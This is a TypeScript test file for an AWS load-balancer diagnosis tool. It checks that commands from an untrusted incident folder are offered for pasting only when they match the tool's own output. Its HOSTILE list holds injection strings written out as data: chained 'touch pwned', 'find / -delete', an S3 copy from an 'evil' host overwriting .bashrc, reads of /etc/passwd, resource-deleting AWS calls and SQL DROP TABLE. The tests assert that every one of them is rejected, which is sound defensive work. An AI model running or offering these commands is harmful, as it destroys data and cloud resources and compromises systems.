/** The commands from a stranger's folder that may be shown for pasting. */
import { CloudWatchLogsClient } from '@aws-sdk/client-cloudwatch-logs';
import { describe, expect, it } from 'vitest';
import { insightsCommand, messagesQuery } from '../../../src/collect/access-log/cloudwatch-logs/insights.ts';
import { logEventsCommand } from '../../../src/collect/access-log/cloudwatch-logs/log-events.ts';
import { collect } from '../../../src/collect/collect.ts';
import {
  questionToRecording,
  readIncident,
  recordedCollectors,
  searchCommand,
} from '../../../src/collect/incident/incident-collectors.ts';
import { readLookBackCommand, readSource } from '../../../src/collect/incident/recorded-source.ts';
import type { Question } from '../../../src/evidence/question.ts';
import { lookBackCommand, RECORDED_LOOK_BACK } from '../../../src/query/look-back.ts';
import { AWS_FILES, INCIDENT, incidentFolder, LB, LB_ARN } from '../../support/incident/folder.ts';

const question: Question = {
  loadBalancer: { name: 'shop', arn: LB_ARN },
  from: Date.parse(INCIDENT.from),
  to: Date.parse(INCIDENT.to),
  now: Date.parse(INCIDENT.to),
  statuses: ['elb-502', 'target-5xx'],
  targetGroup: undefined,
  zone: undefined,
};
const SEARCH = searchCommand(question);
const group = {
  name: '/aws/alb',
  arn: '*',
  loadBalancer: LB,
  region: 'eu-west-1',
  logs: new CloudWatchLogsClient({ region: 'eu-west-1' }),
  signal: new AbortController().signal,
};
const seconds = { from: 1_763_606_400, to: 1_763_607_300 };

/** Each would run, fetch or overwrite something of a stranger's choice. */
const HOSTILE = [
  'touch pwned',
  `${SEARCH} ; touch pwned`,
  `${SEARCH} # $(touch pwned)`,
  `${SEARCH}\ntouch pwned`,
  `${SEARCH} > pwned`,
  "find logs -name '*.log*' -exec touch pwned +",
  "find logs -name '*.log*' -exec zcat -f {} + | awk 'BEGIN { system(\"touch pwned\") }'",
  'find / -delete',
  `aws s3 cp s3://evil/x ../.bashrc && ${SEARCH}`,
  `aws s3 cp s3://evil/x logs --recursive --endpoint-url https://evil.example && ${SEARCH}`,
  'aws ec2 terminate-instances --instance-ids i-0f76fade',
  'aws elbv2 delete-load-balancer --load-balancer-arn x',
  'aws elbv2 describe-listeners --cli-input-json file:///etc/passwd',
  'aws elbv2 describe-listeners --load-balancer-arn file:///etc/passwd',
  "aws elbv2 describe-listeners --load-balancer-arn 'x' '$(touch pwned)'",
  'SELECT 1; DROP TABLE entries',
  'SELECT \u202e1',
  'DROP TABLE entries',
  '',
];

describe('a source', () => {
  it.each([
    SEARCH,
    `aws s3 cp s3://logs/AWSLogs/123456789012/elasticloadbalancing/eu-west-1/2026/03/10/ logs --recursive --exclude '*' --include '*_app.shop.50dc6c495c0c9188_20260310T1*' && ${SEARCH}`,
    logEventsCommand(group, seconds),
    insightsCommand(group, seconds, messagesQuery(group)),
    `aws elbv2 describe-load-balancer-attributes --load-balancer-arn ${LB_ARN}`,
    'SELECT * FROM "logs"."alb_access_logs" WHERE "day" IN (\'2026/03/10\')',
  ])('printed by alb502 is kept: %s', (text) => expect(readSource(text)).toBe(text));

  it.each(HOSTILE)('of any other kind is dropped: %s', (text) => expect(readSource(text)).toBeNull());
});

describe('the offer of a longer look-back', () => {
  it.each([lookBackCommand(question), RECORDED_LOOK_BACK])('stays as alb502 prints it: %s', (text) =>
    expect(readLookBackCommand(text)).toBe(text),
  );

  it.each([...HOSTILE, 'alb502 diagnose shop from x to y --config evil.json --look-back 24h'])('goes: %s', (text) =>
    expect(readLookBackCommand(text)).toBeNull(),
  );
});

it.each(HOSTILE)('is our own for a folder that offers only %s', async (source) => {
  const denied = { source, reason: 'denied' };
  const unavailable = { listeners: denied, services: denied, accessLog: denied };
  const { 'aws/describe-listeners.json': _, 'aws/ecs-describe-services.json': __, ...others } = AWS_FILES;
  const incident = await readIncident(incidentFolder({ ...others, 'incident.json': { ...INCIDENT, unavailable } }));
  const asked = questionToRecording(incident, { loadBalancer: null, window: null, statuses: null });
  const { listeners, services, accessLog } = await collect(recordedCollectors(incident, asked));
  expect(listeners).toMatchObject({
    reason: 'denied',
    source: expect.stringMatching(/^aws elbv2 describe-listeners /),
  });
  expect(services).toMatchObject({ reason: 'denied', source: expect.stringMatching(/^aws ecs describe-services /) });
  expect(accessLog).toMatchObject({ reason: 'denied', source: searchCommand(asked) });
});
